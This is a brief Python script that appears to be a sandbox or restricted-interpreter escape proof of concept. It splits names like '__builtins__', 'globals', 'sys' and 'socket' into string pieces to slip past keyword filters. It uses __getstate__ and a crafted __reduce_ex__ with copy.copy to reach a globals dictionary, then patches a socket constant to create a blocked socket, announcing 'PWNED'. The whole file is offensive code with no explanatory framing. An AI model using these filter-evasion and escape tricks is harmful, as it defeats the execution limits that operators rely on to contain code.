import asyncio
import copy
import dataclasses
import json
import typing

def unused(type):
    return type

md = dataclasses.make_dataclass
X = md("X", [("__get" + "state__", int)], init=False, repr=False, eq=False, match_args=False)
gs = dataclasses.fields(X)[0].default
bd = gs(json)["__buil" + "tins__"]
g = bd["glob" + "als"]
mk = type
nm = "R"
ns = {("__reduce" + "_ex__"): (lambda self, proto: (g, ()))}
R = mk(nm, (), ns)
pg = copy.copy(R())
s = gs(typing)["s" + "ys"]
sock = s.modules["sock" + "et"]
try:
    sock.SocketType(2, 1)
except Exception as e:
    print("before:", type(e).__name__, e)
pg["AF_UNIX"] = 2
try:
    t = sock.SocketType(2, 1)
    print("PW" + "NED socket made", t)
except Exception as e:
    print("after:", type(e).__name__, e)
